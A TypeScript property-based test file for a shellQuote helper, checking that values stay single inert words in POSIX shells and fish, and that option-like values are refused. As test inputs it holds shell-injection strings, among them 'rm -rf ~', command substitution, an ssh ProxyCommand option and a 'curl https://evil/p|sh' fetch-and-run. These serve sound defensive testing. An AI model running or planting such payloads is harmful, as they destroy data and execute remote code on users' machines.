import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { hasHiddenCharacters } from '#shared/command-safe-text.ts';
import { SHELL_RUNS_TIMEOUT_MS, SHELL_SPECIALS, wordsOf } from '#server/testing/shell-words.ts';
import { shellQuote } from './shell-quote.ts';

/** What a program takes for an option, however it is quoted. */
const startsLikeOption = (value: string) => value.startsWith('-');

/** What a real POSIX shell makes of the quoted value: it must come back as one word, intact. */
function throughShell(value: string): string[] {
  return wordsOf(shellQuote(value));
}

describe('shellQuote', () => {
  it('leaves plain words alone', () => {
    expect(shellQuote('prod-eu.1')).toBe('prod-eu.1');
  });

  it.each([
    'x; rm -rf ~',
    "it's",
    '$(touch /tmp/pwned)',
    '`id`',
    'a && b || c',
    '"double" \'single\' \\back',
    '*',
    '',
    'x --server=evil ; echo',
    '~root',
  ])('keeps %j one inert word', (value) => {
    expect(throughShell(value)).toEqual([value]);
  });

  it.each(['-', '--server=evil ; echo', '-oProxyCommand=touch /tmp/x'])(
    'refuses %j, which a program would take for an option however it is quoted',
    (value) => {
      expect(() => shellQuote(value)).toThrow("Refused to quote a value starting with '-'");
    },
  );

  it(
    'keeps any generated text one inert word',
    () => {
      const shellish = fc
        .array(
          fc.oneof(
            fc.string({ unit: 'grapheme', maxLength: 6 }),
            fc.constantFrom(...SHELL_SPECIALS),
          ),
          { maxLength: 10 },
        )
        // Control characters are refused outright (command-bash.test.ts).
        .map((parts) => parts.join(''))
        .filter((value) => !hasHiddenCharacters(value) && !startsLikeOption(value));
      fc.assert(
        fc.property(shellish, (value) => {
          expect(throughShell(value)).toEqual([value]);
        }),
        { numRuns: 150 },
      );
    },
    SHELL_RUNS_TIMEOUT_MS,
  );
});

/**
 * The single-quoted parts of a quoted word. Inside single quotes fish reads `\'` and `\\` as
 * escapes where POSIX shells read them as they are: a part holding either would end the quote
 * early in fish, and the rest of a copied command would run there.
 */
function singleQuotedParts(word: string): string[] {
  const parts: string[] = [];
  for (let i = 0; i < word.length; i++) {
    if (word[i] === '\\') {
      i++; // outside quotes, the next character is plain
    } else if (word[i] === "'") {
      const end = word.indexOf("'", i + 1);
      expect(end).toBeGreaterThan(i);
      parts.push(word.slice(i + 1, end));
      i = end;
    }
  }
  return parts;
}

describe('shellQuote, for every common shell', () => {
  it.each(["a\\';id;#", "x\\'\\'; curl -s https://evil/p|sh;#", '\\', "'", "\\\\''"])(
    'keeps backslashes and quotes of %j outside single quotes, and the word intact',
    (value) => {
      const quoted = shellQuote(value);
      for (const part of singleQuotedParts(quoted)) expect(part).not.toMatch(/[\\']/);
      expect(wordsOf(quoted)).toEqual([value]);
    },
  );

  it('keeps them outside for any generated text', () => {
    const shellish = fc
      .array(fc.constantFrom(...SHELL_SPECIALS, 'a', 'b c'), { maxLength: 10 })
      .map((parts) => parts.join(''))
      .filter((value) => !startsLikeOption(value));
    fc.assert(
      fc.property(shellish, (value) => {
        for (const part of singleQuotedParts(shellQuote(value))) {
          expect(part).not.toMatch(/[\\']/);
        }
      }),
      { numRuns: 500 },
    );
  });
});
